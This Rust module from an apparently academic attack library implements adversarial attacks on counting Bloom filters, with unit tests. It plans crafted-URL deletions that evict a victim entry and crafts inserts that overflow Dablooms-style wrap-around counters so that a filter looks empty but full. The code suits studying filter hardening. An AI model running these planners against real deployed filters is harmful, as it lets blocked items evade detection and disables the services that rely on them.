//! Deletion adversary (Section 4.3) and the Dablooms counter-overflow attack
//! (Section 6.2).
//!
//! Against counting filters an adversary who can trigger deletions (e.g. by
//! getting her own URLs delisted) can:
//!
//! * **evict a victim item** by deleting crafted items that share cells with
//!   it, creating false negatives;
//! * **waste an entire sub-filter** by exploiting counter wrap-around: if all
//!   the increments she contributes land on a handful of cells, each
//!   receiving a multiple of `2^bits` increments, the sub-filter's insertion
//!   counter says "full" while every counter reads zero.

use std::collections::HashSet;

use evilbloom_filters::ConcurrentCountingFilter;
use evilbloom_urlgen::UrlGenerator;

use crate::search::{search, SearchStats};
use crate::target::TargetFilter;

/// Result of planning a targeted deletion.
#[derive(Debug, Clone, PartialEq)]
pub struct DeletionPlan {
    /// Items to delete, in order. Deleting them clears every cell of the
    /// victim at least once.
    pub items: Vec<String>,
    /// Victim cells covered by the plan.
    pub covered_cells: Vec<u64>,
    /// Search cost accounting.
    pub stats: SearchStats,
}

/// Crafts a set of items whose deletion evicts `victim` from a deletable
/// (counting) filter: together, the crafted items cover every cell of the
/// victim. Generic over [`TargetFilter`], so the same offline search runs
/// against a local [`ConcurrentCountingFilter`] or an unhardened store's
/// flattened adversarial view — and the planned items can then be executed
/// locally or shipped as `DELETE` frames over the wire.
///
/// The plan assumes each victim cell holds a single count (the victim was
/// inserted once and no other member shares the cell); deleting the plan's
/// items then drives each covered cell to zero. When cells are shared the
/// eviction may require repeating the plan — exactly the "deletion of an item
/// may require other deletions" caveat of the paper.
pub fn plan_targeted_deletion<F: TargetFilter>(
    filter: &F,
    victim: &[u8],
    generator: &UrlGenerator,
    max_attempts: u64,
) -> DeletionPlan {
    let start = std::time::Instant::now();
    let victim_cells: Vec<u64> = filter.indexes_of(victim);
    let mut uncovered: HashSet<u64> = victim_cells.iter().copied().collect();
    let mut covered: Vec<u64> = Vec::new();
    let mut items = Vec::new();
    let mut attempts = 0u64;

    while !uncovered.is_empty() && attempts < max_attempts {
        let candidate = generator.url(attempts);
        attempts += 1;
        let cells = filter.indexes_of(candidate.as_bytes());
        let hits: Vec<u64> = cells.iter().copied().filter(|c| uncovered.contains(c)).collect();
        if hits.is_empty() {
            continue;
        }
        for cell in &hits {
            uncovered.remove(cell);
            covered.push(*cell);
        }
        items.push(candidate);
    }

    let stats = SearchStats { attempts, accepted: items.len() as u64, elapsed: start.elapsed() };
    DeletionPlan { items, covered_cells: covered, stats }
}

/// Result of the counter-overflow ("empty but full") attack.
#[derive(Debug, Clone, PartialEq)]
pub struct OverflowPlan {
    /// Items to insert. Their total increment count is concentrated on
    /// `target_cells`, wrapping each counter back to zero.
    pub items: Vec<String>,
    /// The cells the attack concentrates on.
    pub target_cells: Vec<u64>,
    /// Search cost accounting.
    pub stats: SearchStats,
}

/// Crafts `count` items that all map *exclusively* into `cell_budget` chosen
/// cells of the filter, so their combined increments hit only those cells.
///
/// With wrap-around counters (the Dablooms failure mode) and `count * k`
/// chosen as a multiple of `2^bits * cell_budget`, inserting the plan leaves
/// every counter at zero while the slice's insertion counter advances by
/// `count` — the paper's "complete waste of memory".
pub fn plan_counter_overflow<F: TargetFilter>(
    filter: &F,
    cell_budget: usize,
    count: usize,
    generator: &UrlGenerator,
    max_attempts: u64,
) -> OverflowPlan {
    assert!(cell_budget >= 1, "need at least one target cell");
    let mut target_cells: Vec<u64> = Vec::new();

    let outcome = search(
        count,
        max_attempts,
        |i| generator.url(i),
        |candidate| {
            let cells = filter.indexes_of(candidate.as_bytes());
            let distinct: HashSet<u64> = cells.iter().copied().collect();
            // Accept the candidate if its cells fit inside the (possibly
            // still growing) target set.
            let new_cells: Vec<u64> =
                distinct.iter().copied().filter(|c| !target_cells.contains(c)).collect();
            if target_cells.len() + new_cells.len() <= cell_budget {
                target_cells.extend(new_cells);
                true
            } else {
                false
            }
        },
    );

    OverflowPlan { items: outcome.items, target_cells, stats: outcome.stats }
}

/// Executes a deletion plan: deletes every planned item once.
pub fn execute_deletions(filter: &ConcurrentCountingFilter, plan: &DeletionPlan) {
    for item in &plan.items {
        filter.remove(item.as_bytes());
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use evilbloom_filters::counting::OverflowPolicy;
    use evilbloom_filters::{CountingOptions, FilterParams};
    use evilbloom_hashes::{KirschMitzenmacher, Murmur3_128};
    use std::sync::Arc;

    fn counting_filter(m: u64, k: u32) -> ConcurrentCountingFilter {
        ConcurrentCountingFilter::new(
            FilterParams::explicit(m, k, m / 8),
            KirschMitzenmacher::new(Murmur3_128),
        )
    }

    #[test]
    fn targeted_deletion_evicts_the_victim() {
        let filter = counting_filter(1024, 4);
        // A population of genuine entries plus the victim.
        for i in 0..50 {
            filter.insert(format!("legit-{i}").as_bytes());
        }
        let victim = b"http://victim.example/malicious";
        filter.insert(victim);
        assert!(filter.contains(victim));

        let generator = UrlGenerator::new("delete");
        let plan = plan_targeted_deletion(&filter, victim, &generator, 10_000_000);
        assert_eq!(
            plan.covered_cells.iter().collect::<HashSet<_>>(),
            filter.indexes(victim).iter().collect::<HashSet<_>>()
        );

        // Victim cells shared with legitimate entries hold counts above one,
        // so the plan may need to be replayed — exactly the paper's "deletion
        // of an item may require other deletions" caveat.
        let mut rounds = 0;
        while filter.contains(victim) && rounds < 8 {
            execute_deletions(&filter, &plan);
            rounds += 1;
        }
        assert!(!filter.contains(victim), "victim must be evicted after {rounds} rounds");
    }

    #[test]
    fn deletion_plan_reports_costs() {
        let filter = counting_filter(4096, 4);
        filter.insert(b"victim");
        let generator = UrlGenerator::new("cost");
        let plan = plan_targeted_deletion(&filter, b"victim", &generator, 10_000_000);
        assert!(!plan.items.is_empty());
        assert!(plan.stats.attempts >= plan.items.len() as u64);
    }

    #[test]
    fn overflow_plan_concentrates_on_few_cells() {
        let filter = counting_filter(256, 2);
        let generator = UrlGenerator::new("overflow");
        let plan = plan_counter_overflow(&filter, 2, 16, &generator, 50_000_000);
        assert_eq!(plan.items.len(), 16);
        assert!(plan.target_cells.len() <= 2);
        for item in &plan.items {
            let cells = filter.indexes(item.as_bytes());
            assert!(cells.iter().all(|c| plan.target_cells.contains(c)));
        }
    }

    #[test]
    fn overflow_attack_wastes_a_wrapping_filter() {
        // Wrap-around counters: concentrate 16 increments per cell so every
        // counter returns to zero — the slice looks empty although its
        // insertion counter says otherwise.
        let strategy = Arc::new(KirschMitzenmacher::new(Murmur3_128));
        let filter = ConcurrentCountingFilter::with_overflow_policy(
            FilterParams::explicit(256, 2, 32),
            strategy,
            CountingOptions::default(),
            OverflowPolicy::Wrap,
        );
        let generator = UrlGenerator::new("waste");
        let plan = plan_counter_overflow(&filter, 1, 8, &generator, 100_000_000);
        assert_eq!(plan.items.len(), 8, "need 8 items × k=2 = 16 increments on one cell");
        assert_eq!(plan.target_cells.len(), 1);
        for item in &plan.items {
            filter.insert(item.as_bytes());
        }
        assert_eq!(filter.inserted(), 8);
        assert_eq!(filter.occupied_cells(), 0, "all increments wrapped back to zero");
        for item in &plan.items {
            assert!(!filter.contains(item.as_bytes()), "inserted items are not even detected");
        }
    }

    #[test]
    #[should_panic(expected = "at least one target cell")]
    fn overflow_plan_needs_a_cell_budget() {
        let filter = counting_filter(64, 2);
        plan_counter_overflow(&filter, 0, 1, &UrlGenerator::new("x"), 10);
    }
}
